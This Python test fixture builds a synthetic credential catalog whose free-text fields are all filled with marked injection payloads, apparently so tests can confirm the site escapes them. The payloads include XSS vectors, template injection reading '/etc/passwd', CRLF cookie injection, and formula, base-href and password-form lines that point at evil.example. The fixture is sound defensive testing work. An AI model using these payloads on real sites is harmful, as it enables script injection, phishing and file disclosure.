"""What people try to smuggle into pages by way of text, and a catalog in which it stands in every field."""

from tests.build import catalog_folder
from tests.build.catalog_folder import Files, Record
from tests.hostile import small

MARK = "xmarkx"
"""Stands in every payload, so that it can be found again."""

LINES = (
    f"</title><script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f"<!--<script>{MARK}",
    f'"><img src=x onerror={MARK}()>',
    f"' onmouseover='{MARK}()' x='",
    f'" style="background:url(https://evil.example/{MARK})" x="',
    f"{{{{ 7 * 7 }}}}{{% raw %}}{MARK}",
    f"{{{{ {MARK}.__class__ }}}}{{# x #}}",
    f"<svg/onload={MARK}()>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;script&#62;{MARK}",
    f"\\u003cscript>{MARK}()",
    f"]]><script>{MARK}()</script>",
    f"--><script>{MARK}()</script>",
    f"</style></noscript></template>{MARK}",
    f"javascript:{MARK}()//https://x.example",
    f"<%= {MARK} %>${{{MARK}}}`{MARK}`",
    f'=HYPERLINK("https://evil.example/{MARK}")',
    f"<base href=//evil.example>{MARK}",
    f"<form action=//evil.example><input name={MARK} type=password>",
    f"</bdi></a></h1></main></body></html>{MARK}",
    f"%0d%0aSet-Cookie:{MARK} /* 301!",
    f"{MARK} \U0001f469\u200d\U0001f3eb \u05d0\u05d1\u05d2 e\u0301",
)
"""For fields of one line."""

BODIES = (
    f"<script>{MARK}()</script>\n\n<img src=x onerror={MARK}()>",
    f"<svg><style><img src=x onerror={MARK}()></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={MARK}()>'>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"[a](javascript:{MARK}\\(\\)) [b](JaVaScRiPt:{MARK}) [c](&#106;avascript:{MARK})",
    f'[a](/ "x\\" onmouseover={MARK}() y=\\"") [b](/ \'" onclick="{MARK}()\')',
    f'```" onclick="{MARK}()\ncode\n```\n\n~~~"><script>{MARK}()</script>\ncode\n~~~',
    f'## location\n\n## {MARK}" id="cookie\n\n### __proto__\n\n## content\n',
    f"<!-- {MARK} --><![CDATA[<script>{MARK}()</script>]]><?php {MARK} ?>",
    f'| <b onclick={MARK}()> |\n|:-:" onclick="{MARK}()|\n| `<script>{MARK}()</script>` |',
    f"{{{{ 7 * 7 }}}} {{% include '/etc/passwd' %}} {{{{ page.__class__ }}}} {MARK}",
    f"</main></body></html><script>{MARK}()</script>",
    f"<a href='javascript:{MARK}()' style='position:fixed;inset:0' target=_blank>x</a>",
    f'[x]: https://x.example \'" onclick="{MARK}()\'\n\n[x] ![{MARK}" onerror="x]({MARK}.svg)',
)
"""For long texts."""


def catalog() -> Files:
    """A catalog in which every field that takes free text holds a payload, each of them somewhere."""
    files = small.start()
    site = small.record(files, "content/site.yaml")
    site.fields |= {
        "footer": LINES[0],
        "question": LINES[3],
        "examples": list(LINES[:6]),
        "name": LINES[1][:60],
    }
    site.fields |= {
        "tagline": LINES[8],
        "grades": {"k-2": LINES[4]},
        "audiences": {"classroom-teacher": LINES[5]},
    }
    site.fields |= {"evidence_kinds": {"plan": LINES[9]}}
    for number, line in enumerate(LINES):
        body = BODIES[number % len(BODIES)]
        files[f"content/credentials/harbor/h{number}.md"] = _credential(line, body)
        files[f"content/pages/p{number}.md"] = Record({"title": line, "summary": _long(line)}, body)
        if number % 4 == 0:
            files[f"content/focus-areas/f{number}.md"] = Record(
                {"name": line[:60], "summary": _long(line)}, body
            )
            files[f"content/issuers/i{number}.md"] = _issuer(line, body)
            files[f"content/pathways/w{number}.md"] = _pathway(line, body)
    for folder in ("credentials/harbor", "pages"):
        files[f"content/{folder}/{MARK}.svg"] = catalog_folder.picture("red")
    return files


def _long(line: str) -> str:
    return f"{line} and so on, and so on."


def _credential(line: str, body: str) -> Record:
    levels = {line: f"{line} for all.", "Not yet": f"Nothing of {line} is there."}
    row = {"criterion": line, "levels": levels}
    record = catalog_folder.credential(2)
    record.body = body
    record.fields |= {
        "title": line,
        "summary": _long(line),
        "focus_areas": ["talk"],
        "problems": [_long(line)],
        "competency": line,
        "key_method": {"name": line, "summary": line, "components": [{"name": line, "text": line}]},
        "rubric_levels": [line, "Not yet"],
        "passing_level": line,
        "evidence": [{"title": line, "kinds": ["plan"], "task": body, "rubric": [row]}],
        "research": [{"note": line, "citation": line, "url": "https://x.example/?a=b&c=d"}],
        "resources": [{"title": line, "note": line}],
        "reflection": [line],
        "review": {"note": line},
        "cost": {"amount": 5, "note": line},
        "form": {
            "url": "https://docs.google.com/forms/d/e/x/viewform?a=SG_TITLE&b=SG_ISSUER&c=SG_CREDENTIAL",
            "run_by": line, "asks": line, "without_account": line,
        },
        "recognition": [{"by": line, "grants": line, "as_of": "2026-01-01", "rule": "https://x.example/"}],
        "alignments": [{"framework": line, "name": line, "code": line, "url": "https://x.example/"}],
        "licence": line,
    }  # fmt: skip
    return record


def _issuer(line: str, body: str) -> Record:
    fields = {
        "name": line,
        "summary": _long(line),
        "type": line[:60],
        "location": line,
        "maintainers": ["harbor-desk"],
    }
    return Record(fields, body)


def _pathway(line: str, body: str) -> Record:
    stages = [{"title": line, "note": line, "credentials": ["calm", "h0"], "required": 1}]
    fields = {
        "title": line,
        "summary": _long(line),
        "status": "published",
        "issuer": "harbor",
        "outcome": line,
    }
    return Record(fields | {"stages": stages}, body)
